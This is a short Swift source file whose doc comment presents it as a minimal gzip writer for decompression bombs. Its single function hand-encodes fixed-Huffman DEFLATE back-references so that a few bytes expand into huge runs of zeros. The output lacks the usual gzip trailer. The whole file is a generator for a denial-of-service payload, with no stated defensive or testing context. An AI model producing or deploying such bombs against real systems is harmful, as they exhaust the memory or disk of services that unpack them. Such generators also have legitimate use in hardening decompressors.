// SPDX-License-Identifier: MIT

/// A minimal gzip writer for decompression bombs.
enum Deflate {
    /// Compresses zeros: each 13-bit block stands for 258 of them.
    static func zeros(blocks: Int) -> [UInt8] {
        var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]
        var (buffer, count) = (0, 0)
        func put(_ bits: [Int], into bytes: inout [UInt8]) {
            for bit in bits {
                buffer |= bit << count
                count += 1
                guard count == 8 else { continue }
                bytes.append(UInt8(buffer))
                (buffer, count) = (0, 0)
            }
        }
        // A final block with fixed Huffman codes: one zero, and then copies of 258 bytes.
        put([1, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0], into: &bytes)
        for _ in 0..<blocks { put([1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0], into: &bytes) }
        put([0, 0, 0, 0, 0, 0, 0] + [0, 0, 0, 0, 0, 0, 0, 0], into: &bytes)
        return bytes
    }
}
